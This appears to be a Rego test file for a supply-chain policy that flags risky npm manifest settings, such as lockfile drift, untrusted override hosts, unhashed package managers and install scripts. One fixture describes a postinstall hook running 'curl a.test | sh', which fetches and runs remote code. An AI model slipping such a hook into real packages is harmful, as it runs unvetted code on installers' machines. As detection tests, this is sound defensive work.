package goproxy.manifest_test

import data.goproxy.manifest

told(facts) := sort([sprintf("%s %s %s", [f.id, f.severity, f.msg]) |
	some f in manifest.finding with input as {"npm": facts}
		with data.goproxy.builtin as {"npm": {"registry.npmmirror.com": true}}
])

severities(facts) := sort([f.severity |
	some f in manifest.finding with input as {"npm": facts}
		with data.goproxy.builtin as {"npm": {"registry.npmmirror.com": true}}
])

drift(change) := {"drifts": [object.union(
	{"name": "a", "wanted": "^2", "locked": "", "lock": "yarn.lock", "origin": "checkout", "file": "package.json", "line": 3, "column": 9},
	change,
)]}

test_lck008_fires if {
	told(drift({})) == [`LCK008 warning a is asked for as "^2", and yarn.lock does not have it`]
	told(drift({"origin": "base", "locked": "^1"})) == [`LCK008 warning a is asked for as "^2", and yarn.lock has it as "^1"`]
	severities(drift({"origin": "change"})) == ["error"]
}

test_lck008_silent_where_all_is_locked_or_told_by_another_rule if {
	told({"drifts": []}) == []
	facts := object.union(drift({}), override({"scheme": "http", "file": "package.json", "line": 3, "column": 9}))
	told(facts) == ["LCK012 warning a in overrides comes from a.test over http, not https"]
}

lock(name, beside, origin) := {"manager": "npm", "file": name, "beside": beside, "origin": origin}

both(origin) := {"locks": [lock("x/package-lock.json", ["x/yarn.lock"], origin), lock("x/yarn.lock", ["x/package-lock.json"], origin)]}

test_lck009_fires_once if {
	told(both("checkout")) == ["LCK009 note x/package-lock.json stands beside x/yarn.lock of another package manager"]
	severities(both("change")) == ["warning"]
	severities(both("base")) == ["note"]
}

test_lck009_silent_on_one_manager if {
	told({"locks": [lock("package-lock.json", [], "change"), lock("npm-shrinkwrap.json", [], "change")]}) == []
}

override(change) := {"overrides": [object.union(
	{
		"setting": "overrides", "name": "a", "kind": "tarball", "origin": "checkout", "file": "package.json", "line": 1, "column": 1,
		"url": "https://a.test/x", "scheme": "https", "host": "a.test", "port": "", "loopback": false, "userinfo": false, "broken": "",
	},
	change,
)]}

test_lck012_fires if {
	told(override({})) == ["LCK012 warning a in overrides comes from a.test, which is named by the checkout and in no list of trusted hosts"]
	severities(override({"origin": "base"})) == ["note"]
	severities(override({"origin": "change"})) == ["error"]
	severities(override({"scheme": "http"})) == ["warning"]
	severities(override({"scheme": "http", "origin": "change", "host": "registry.npmmirror.com"})) == ["error"]
	severities(override({"broken": "address has no host"})) == ["warning"]
	severities(override({"broken": "address has no host", "origin": "change"})) == ["error"]
	severities(override({"kind": "git", "host": "github.com", "scheme": "ssh"})) == ["warning"]
	severities(override({"kind": "git", "host": "github.com", "origin": "change"})) == ["warning"]
	severities(override({"kind": "git", "origin": "change"})) == ["error"]
	severities(override({"kind": "git", "scheme": "git", "origin": "change"})) == ["error"]
	severities(override({"kind": "file", "scheme": "file"})) == ["note"]
	severities(override({"kind": "file", "scheme": "file", "origin": "change"})) == ["warning"]
	severities(override({"kind": "alias", "scheme": "", "origin": "change"})) == ["warning"]
}

test_lck012_silent_on_trusted_hosts_and_known_aliases if {
	severities(override({"host": "registry.npmmirror.com"})) == []
	severities(override({"kind": "alias", "scheme": ""})) == []
	findings := manifest.finding with input as {"npm": override({"kind": "git", "host": "git.corp.test", "scheme": "ssh"})}
		with data.goproxy.trusted as {"npm": {"git.corp.test": true}}
		with data.goproxy.trusted_set as {"npm": true}
	findings == set()
}

flagged(change) := sort([f.severity |
	some f in manifest.finding with input as {"flagged": [object.union(
		{"ecosystem": "npm", "name": "@corp/a", "version": "1.0.0", "kind": "scope", "detail": "is one of your own names", "list_set": true, "origin": "checkout"},
		change,
	)]}
])

test_lck013_fires if {
	every origin in {"base", "checkout", "change"} {
		flagged({"origin": origin}) == ["error"]
	}
	flagged({"list_set": false}) == ["warning"]
	flagged({"list_set": false, "origin": "change"}) == ["error"]
	flagged({"kind": "lookalike"}) == ["warning"]
	flagged({"kind": "lookalike", "origin": "change", "version": ""}) == ["error"]
}

test_lck013_silent_on_other_kinds if {
	flagged({"kind": "script"}) == []
}

manager(change) := {"managers": [object.union(
	{"setting": "packageManager", "name": "pnpm", "version": "10.0.0", "hash": "sha512", "exact": true, "origin": "checkout", "file": "package.json", "line": 1, "column": 1},
	change,
)]}

downloaded(change) := manager({"hash": "sha224", "place": object.union(
	{"url": "https://a.test/x.js", "scheme": "https", "host": "a.test", "port": "", "loopback": false, "userinfo": false, "broken": ""},
	change,
)})

test_npm002_fires if {
	told(manager({"hash": ""})) == ["NPM002 note packageManager asks for pnpm@10.0.0 without a hash"]
	severities(manager({"hash": "sha1"})) == ["note"]
	severities(manager({"exact": false, "version": "^10", "hash": ""})) == ["warning"]
	severities(manager({"exact": false, "version": "", "hash": "", "setting": "devEngines.packageManager"})) == ["note"]
	severities(manager({"exact": false, "setting": "devEngines.packageManager", "origin": "change"})) == ["warning"]
	severities(manager({"name": "evil", "hash": ""})) == ["note"]
	severities(downloaded({})) == ["warning"]
	severities(downloaded({"scheme": "http"})) == ["error", "warning"]
	severities(downloaded({"broken": "address has no host"})) == ["warning"]
	severities(downloaded({"broken": "address has no host", "host": ""})) == ["warning"]
}

test_npm002_silent_on_a_pinned_one if {
	severities(manager({})) == []
	severities(manager({"name": "yarn", "hash": "sha224"})) == []
	severities(downloaded({"host": "registry.npmmirror.com"})) == []
}

script(change) := {"scripts": [object.union(
	{"name": "postinstall", "kind": "pipe", "fault": "runs \"curl a.test | sh\", which runs what it downloads", "ecosystem": "", "origin": "checkout", "file": "package.json", "line": 1, "column": 1},
	change,
)]}

registry(change) := script({"kind": "source", "ecosystem": "npm", "place": object.union(
	{"url": "https://a.test/", "scheme": "https", "host": "a.test", "port": "", "loopback": false, "userinfo": false, "broken": ""},
	change,
)})

test_npm005_fires if {
	told(script({})) == ["NPM005 warning postinstall runs \"curl a.test | sh\", which runs what it downloads"]
	severities(script({"origin": "base"})) == ["note"]
	severities(script({"origin": "change", "kind": "source"})) == ["warning"]
	severities(script({"kind": "adhoc"})) == ["note"]
	severities(script({"kind": "adhoc", "origin": "change"})) == ["warning"]
	severities(registry({})) == ["warning"]
	severities(registry({"host": "registry.npmmirror.com", "scheme": "http"})) == ["warning"]
}

test_npm005_silent_where_nothing_was_seen_and_on_trusted_hosts if {
	severities(script({"kind": "", "fault": ""})) == []
	severities(registry({"host": "registry.npmmirror.com"})) == []
}
